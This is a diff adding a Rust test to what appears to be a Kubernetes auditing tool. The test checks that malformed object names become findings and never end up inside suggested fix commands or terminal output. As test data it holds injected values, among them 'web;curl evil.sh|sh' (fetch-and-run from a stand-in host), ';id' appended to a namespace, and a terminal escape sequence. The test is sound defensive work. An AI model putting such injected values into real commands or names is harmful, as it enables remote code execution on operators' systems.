@@ -104,3 +104,81 @@ async fn answers_far_too_large_are_findings_and_never_all_in_memory_at_once() {
     assert!(run.with_code("CannotRead").len() >= 7, "{}", run.stdout);
     assert_bounded(&run);
 }
+
+/// Names no API server accepts, as something answering in its place might send them.
+fn hostile_names(cluster: &KubeCluster) {
+    let evil = "web;curl evil.sh|sh";
+    cluster.add(objects::workload("Deployment", "payments", evil, true, false, None));
+    cluster.add(objects::workload(
+        "ReplicaSet",
+        "payments",
+        "web-7f9c",
+        false,
+        true,
+        Some(("Deployment", evil)),
+    ));
+    cluster.add(objects::pod(
+        "payments",
+        "web-7f9c-abcde",
+        "reports-reader",
+        true,
+        Some(("ReplicaSet", "web-7f9c")),
+        &Injected::No,
+    ));
+    cluster.add(objects::pod(
+        "payments",
+        "missed-\u{1b}]0;pwned\u{7}",
+        "reports-reader",
+        true,
+        None,
+        &Injected::No,
+    ));
+    cluster.add(objects::pod(
+        "team --all-namespaces;id",
+        "lost",
+        "reports-reader",
+        true,
+        None,
+        &Injected::No,
+    ));
+}
+
+#[tokio::test]
+async fn names_no_api_server_accepts_become_findings_never_commands() {
+    let cluster = clean_cluster(Mode::Gsa).await;
+    hostile_names(&cluster);
+    let dir = tempfile::tempdir().unwrap();
+    let run = audit_json(&cluster, dir.path(), &[]).await;
+    let cannot: Vec<String> = run
+        .with_code("CannotRead")
+        .iter()
+        .map(|f| f["message"].as_str().unwrap().to_owned())
+        .collect();
+    // The Deployment, the ReplicaSet it owns, the pod with an escape, the pod in a bad namespace.
+    assert_eq!(cannot.len(), 4, "{cannot:#?}");
+    assert!(cannot.iter().any(|m| m.contains("is not a DNS label")), "{cannot:#?}");
+    for finding in run.findings() {
+        let fix = finding["fix"].as_str().unwrap();
+        for bad in ["evil", "pwned", "\u{1b}", "--all-namespaces;id"] {
+            assert!(!fix.contains(bad), "a fix carries {bad:?}: {fix}");
+        }
+    }
+    // The valid pod under the skipped ReplicaSet is still audited, with a fix of its own names.
+    let missed = run.with_code("NotInjected");
+    assert!(
+        missed
+            .iter()
+            .any(|f| f["fix"].as_str().unwrap().contains("web-7f9c-abcde")),
+        "{}",
+        run.stdout
+    );
+
+    let kubeconfig = cluster.kubeconfig(dir.path(), "stand-in");
+    let text = crate::helpers::audit(&kubeconfig, &[]).await;
+    assert!(text.stdout.contains("CannotRead"), "{}", text.stdout);
+    assert!(
+        !text.stdout.chars().any(|c| c.is_control() && c != '\n'),
+        "the table carries control characters: {:?}",
+        text.stdout
+    );
+}
